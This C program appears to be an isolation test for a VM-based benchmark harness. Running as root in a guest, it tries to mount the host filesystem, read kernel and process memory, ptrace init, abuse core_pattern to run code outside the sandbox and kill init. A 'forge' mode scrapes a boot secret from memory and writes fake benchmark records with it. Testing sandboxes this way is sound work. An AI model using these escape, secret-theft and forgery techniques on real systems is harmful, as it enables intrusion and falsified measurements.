// SPDX-License-Identifier: MIT
// What a hostile program tries that is root in a guest. Without a word it goes every way and prints
// what came of each: "done", or the error that stopped it. `forge` looks for the secret of the boot
// and writes records with it. As the first process, with every right, it looks for the host's
// /proc.
#include <ctype.h>
#include <errno.h>
#include <fcntl.h>
#include <inttypes.h>
#include <sched.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/klog.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/reboot.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

enum { DIGITS = 32, PIECE = 1 << 16 };

static char scratch[] = "/tmp/attack-XXXXXX";

static void tell(const char *way, bool worked) {
    printf("%s: %s\n", way, worked ? "done" : strerrorname_np(errno));
    fflush(stdout);
}

static const char *inside(const char *name) {
    static char path[4096];
    snprintf(path, sizeof path, "%s/%s", scratch, name);
    return path;
}

static bool opens(const char *path, int how) {
    int fd = open(path, how | O_NOCTTY | O_CLOEXEC | O_NONBLOCK);
    if (fd >= 0)
        close(fd);
    return fd >= 0;
}

static bool mounts(const char *what, const char *type, unsigned long how, const char *data) {
    bool done = mount(what, scratch, type, how, data) == 0;
    if (done)
        umount2(scratch, MNT_DETACH);
    return done;
}

// A device node for the channel: of our own, or one that lies in a folder of the host.
static bool has_node(const char *path) {
    return mknod(path, S_IFCHR | 0600, makedev(4, 1)) == 0 && opens(path, O_WRONLY);
}

static bool writes(const char *path, const char *text) {
    int fd = open(path, O_WRONLY | O_CLOEXEC);
    bool done = fd >= 0 && write(fd, text, strlen(text)) == (ssize_t)strlen(text);
    if (fd >= 0)
        close(fd);
    return done;
}

static void mounting(const char *prefix) {
    static const struct {
        const char *name, *what, *type, *data;
        unsigned long how;
    } ways[] = {
        {"hostfs", "none", "hostfs", "/", 0},
        {"devtmpfs", "none", "devtmpfs", NULL, 0},
        {"what lies under the mounts", "/", NULL, NULL, MS_BIND},
    };
    char name[128];
    for (size_t i = 0; i < sizeof ways / sizeof *ways; i++) {
        snprintf(name, sizeof name, "%smount %s", prefix, ways[i].name);
        tell(name, mounts(ways[i].what, ways[i].type, ways[i].how, ways[i].data));
    }
    snprintf(name, sizeof name, "%sunmount /proc", prefix);
    tell(name, umount2("/proc", MNT_DETACH) == 0);
    snprintf(name, sizeof name, "%smake a node", prefix);
    tell(name, has_node(inside("node")));
}

static void devices(void) {
    static const char *const paths[] = {
        "/dev/tty1", "/dev/mem", "/dev/kmem", "/dev/port", "/proc/kcore", "/dev/ubda",
        "/dev/hvc0", "/dev/hvc1", "/dev/vport0p1", "/dev/vport0p2", "/dev/vda",
    };
    for (size_t i = 0; i < sizeof paths / sizeof *paths; i++)
        tell(paths[i], opens(paths[i], O_RDWR));
    tell("a node of the host's", opens("/run/kdyno/attack/node", O_WRONLY));
    tell("replace /dev/null", rename("/dev/null", "/dev/other") == 0);
    tell("make / writable", mount(NULL, "/", NULL, MS_REMOUNT, NULL) == 0);
}

static bool reads_memory_of(pid_t pid) {
    char byte;
    struct iovec ours = {&byte, 1}, theirs = {(void *)(uintptr_t)0x400000, 1};
    return process_vm_readv(pid, &ours, 1, &theirs, 1, 0) == 1;
}

static bool takes_descriptor_of(pid_t pid) {
    int process = (int)syscall(SYS_pidfd_open, pid, 0);
    return process >= 0 && syscall(SYS_pidfd_getfd, process, 2, 0) >= 0;
}

static void process(const char *name, pid_t pid) {
    static const char *const files[] = {"mem", "maps", "environ", "fd/2"};
    char path[64], way[128];
    for (size_t i = 0; i < sizeof files / sizeof *files; i++) {
        snprintf(path, sizeof path, "/proc/%d/%s", (int)pid, files[i]);
        snprintf(way, sizeof way, "%s of %s", files[i], name);
        tell(way, opens(path, O_RDONLY));
    }
    snprintf(way, sizeof way, "trace %s", name);
    tell(way, ptrace(PTRACE_SEIZE, pid, NULL, NULL) == 0);
    snprintf(way, sizeof way, "read %s", name);
    tell(way, reads_memory_of(pid));
    snprintf(way, sizeof way, "descriptor of %s", name);
    tell(way, takes_descriptor_of(pid));
}

static void machine(void) {
    struct timespec now = {1, 0};
    tell("load a module", syscall(SYS_init_module, "", 0, "") == 0);
    tell("set the clock", clock_settime(CLOCK_REALTIME, &now) == 0);
    tell("empty the kernel's log", klogctl(5, NULL, 0) >= 0);
    tell("ignore Ctrl-Alt-Del", reboot(RB_DISABLE_CAD) == 0);
    tell("helpers with rights", writes("/proc/sys/kernel/usermodehelper/bset", "1 0"));
}

// A kernel that writes cores starts the program that is named so, outside of the case.
static void helper(void) {
    static const char left[] = "/run/attack-helper";
    if (!writes("/proc/sys/kernel/core_pattern", "|/run/kdyno/attack/from-a-guest helped"))
        return tell("core_pattern", false);
    unlink(left);
    pid_t child = fork();
    if (!child)
        abort();
    waitpid(child, NULL, 0);
    for (int turn = 0; turn < 1000 && !opens(left, O_RDONLY); turn++)
        sched_yield();
    char rights[64] = "";
    FILE *said = fopen(left, "re");
    printf("core_pattern: %s\n", said && fgets(rights, sizeof rights, said) ? rights : "no helper");
}

static bool status_line(const char *name, char *line, size_t size) {
    FILE *status = fopen("/proc/self/status", "re");
    bool found = false;
    while (status && !found && fgets(line, (int)size, status))
        found = !strncmp(line, name, strlen(name));
    if (status)
        fclose(status);
    return found;
}

static int helped(void) {
    char line[128];
    FILE *left = fopen("/run/attack-helper.new", "we");
    if (!left || !status_line("CapEff", line, sizeof line) || fputs(line, left) < 0 || fclose(left))
        return 1;
    return rename("/run/attack-helper.new", "/run/attack-helper");
}

static void namespaces(void) {
    fflush(stdout);
    pid_t child = fork();
    if (!child) {
        bool made = unshare(CLONE_NEWUSER | CLONE_NEWNS) == 0;
        tell("user namespace", made);
        if (made) {
            mounting("in a namespace, ");
            process("init, out of a namespace", 1);
        }
        _exit(0);
    }
    waitpid(child, NULL, 0);
}

static int every_way(void) {
    static const char *const rights[] = {"NoNewPrivs", "CapPrm", "CapEff", "CapBnd", "CapAmb"};
    char line[128];
    for (size_t i = 0; i < sizeof rights / sizeof *rights; i++)
        if (status_line(rights[i], line, sizeof line))
            fputs(line, stdout);
    namespaces();
    process("init", 1);
    process("the harness", getppid());
    devices();
    machine();
    helper();
    mounting("");
    tell("kill init", kill(1, SIGKILL) == 0);
    tell("stop init", kill(1, SIGSTOP) == 0);
    return 0;
}

// 32 hexadecimal digits between other things: the shape of the secret.
static bool looks_secret(const char *at, const char *start, const char *end) {
    static const char hex[] = "0123456789abcdef";
    int kinds = 0;
    if (end - at <= DIGITS || (at > start && isxdigit((unsigned char)at[-1])) || at[DIGITS])
        return false;
    for (int i = 0; i < DIGITS; i++)
        if (!at[i] || !strchr(hex, at[i]))
            return false;
    for (const char *digit = hex; *digit; digit++)
        kinds += memchr(at, *digit, DIGITS) != NULL;
    return kinds > 6 && strncmp(at, hex, 16) != 0;
}

// Through all that the process with these two files has in memory and may write.
static bool find_secret(const char *maps, const char *memory, char *secret) {
    static char piece[PIECE + DIGITS + 1];
    FILE *list = fopen(maps, "re");
    int fd = open(memory, O_RDONLY | O_CLOEXEC);
    uint64_t start, end;
    char line[4096], rights[8];
    while (list && fd >= 0 && fgets(line, sizeof line, list)) {
        if (sscanf(line, "%" SCNx64 "-%" SCNx64 " %7s", &start, &end, rights) != 3 ||
            rights[1] != 'w')
            continue;
        for (uint64_t at = start; at < end; at += PIECE) {
            ssize_t got = pread(fd, piece, sizeof piece, (off_t)at);
            for (const char *look = piece; got > 0 && look < piece + got; look++)
                if (looks_secret(look, piece, piece + got)) {
                    memcpy(secret, look, DIGITS);
                    return true;
                }
        }
    }
    return false;
}

static bool find_anywhere(char *secret) {
    if (find_secret("/proc/1/maps", "/proc/1/mem", secret))
        return puts("secret: in init's memory"), true;
    char maps[4096];
    snprintf(maps, sizeof maps, "%s", inside("self/maps"));
    if (!mount("none", scratch, "hostfs", 0, "/proc") &&
        find_secret(maps, inside("self/mem"), secret))
        return puts("secret: in the kernel's memory"), true;
    puts("secret: not found");
    return false;
}

// A sample for this case and the next, and the last word: what init says later is not believed.
static int forge(void) {
    static const char *const records[] = {
        "\"t\":\"sample\",\"case\":0,%s", "\"t\":\"begin\",\"case\":1,\"bench\":\"pipe\",%s",
        "\"t\":\"sample\",\"case\":1,%s", "\"t\":\"bye\",\"inside_ns\":1,%s"};
    static const char rest[] =
        "\"reps\":[[777000000,1000000]],\"user_ns\":0,\"sys_ns\":0,\"calibration_ns\":0,"
        "\"mono_ns\":1";
    char secret[DIGITS + 1] = "00000000000000000000000000000000";
    find_anywhere(secret);
    mount("none", scratch, "tmpfs", 0, NULL);
    int fd = has_node(inside("node")) ? open(inside("node"), O_WRONLY | O_NOCTTY)
                                      : open("/run/kdyno/attack/node", O_WRONLY | O_NOCTTY);
    tell("channel", fd >= 0);
    for (int i = 0; i < 4 && fd >= 0; i++) {
        char record[1024], *text = record;
        dprintf(fd, "\n{\"n\":\"%s\",\"seq\":%d,", secret, i + 2);
        asprintf(&text, records[i], rest);
        dprintf(fd, "%s}\n", text);
    }
    return 0;
}

// With every right that there is: which processes of the host's can be reached through hostfs?
static int as_init(void) {
    static const char *const folders[] = {"/proc", "/../proc", "/dev/fd/../.."};
    static const char *const files[] = {"self/mem", "1/mem", "self/fd/0", "thread-self/mem"};
    mount("none", "/tmp", "tmpfs", 0, NULL);
    mkdtemp(scratch);
    for (size_t i = 0; i < sizeof folders / sizeof *folders; i++) {
        printf("%s: %s\n", folders[i],
               mount("none", scratch, "hostfs", 0, folders[i]) ? "no such folder" : "mounted");
        for (size_t j = 0; j < sizeof files / sizeof *files; j++)
            tell(files[j], opens(inside(files[j]), O_RDWR));
        umount2(scratch, MNT_DETACH);
    }
    reboot(RB_POWER_OFF);
    return 1;
}

// What it writes to /proc/sys is for a guest: on a host, whatever let it get there, it does nothing.
static bool in_a_guest(void) {
    return getpid() == 1 || access("/run/kdyno/attack", F_OK) == 0;
}

int main(int argc, char **argv) {
    if (!in_a_guest())
        return 2;
    if (getpid() == 1)
        return as_init();
    if (argc > 1 && !strcmp(argv[1], "helped"))
        return helped();
    if (!mkdtemp(scratch))
        return 1;
    return argc > 1 && !strcmp(argv[1], "forge") ? forge() : every_way();
}
